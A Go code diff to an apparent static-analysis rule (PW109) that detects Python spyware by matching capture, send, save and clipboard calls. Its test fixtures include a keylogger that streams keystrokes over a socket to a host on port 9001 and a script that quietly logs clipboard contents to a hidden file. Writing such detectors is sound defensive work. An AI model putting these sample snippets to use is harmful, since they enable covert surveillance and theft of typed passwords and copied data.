@@ -11,6 +11,20 @@ import (
 // savedPath is the path a capture is saved to by an image, video or
 // audio writer: cv2.imwrite(p, frame), img.save(p), mss.tools.to_png(...,
 // output=p), soundfile.write(p, ...), wavio.write(p, ...).
+// spyNoted reports whether PW109 looks at a call of q (method: the
+// attribute called): a capture, a send, a write, a save or a clipboard
+// swap, by the names captureOf, sends, writeTarget, savedPath and
+// clipboardSwap check.
+func spyNoted(q, method string) bool {
+	switch method {
+	case "imwrite", "save", "write", "to_png":
+		return true
+	}
+	return captureName(q, method) || sendingCalls[q] || sendingMethods[method] || writeTargetName(q, method) ||
+		q == "pyperclip.copy" || q == "win32clipboard.SetClipboardText" || q == "win32clipboard.SetClipboardData" ||
+		lastPart(q) == "clipboard_append"
+}
+
 func savedPath(c *Context, call *ast.Call) ast.Expr {
 	a, ok := call.Func.(*ast.Attribute)
 	if !ok {
@@ -65,8 +79,9 @@ func init() {
 			"from pynput import keyboard\nimport socket\ns = socket.create_connection((host, 9001))\nkeyboard.Listener(on_press=lambda k: s.send(str(k).encode())).start()\n",
 			"import os, pyperclip\nwith open(os.path.expanduser('~/.cache/.clip'), 'a') as f:\n    f.write(pyperclip.paste())\n",
 		},
-		Clean: []string{"from PIL import ImageGrab\nImageGrab.grab().save('screenshot.png')\n", "import requests\nrequests.post(url, json=report)\n"},
-		Kinds: []Kind{KindCall, KindEnd},
+		Clean:    []string{"from PIL import ImageGrab\nImageGrab.grab().save('screenshot.png')\n", "import requests\nrequests.post(url, json=report)\n"},
+		Kinds:    []Kind{KindCall, KindEnd},
+		CallWhen: func(_ *Context, q, method string) bool { return spyNoted(q, method) },
 		Check: func(c *Context, n ast.Node) {
 			st := c.state(func() any { return &spyState{} }).(*spyState)
 			call, ok := n.(*ast.Call)
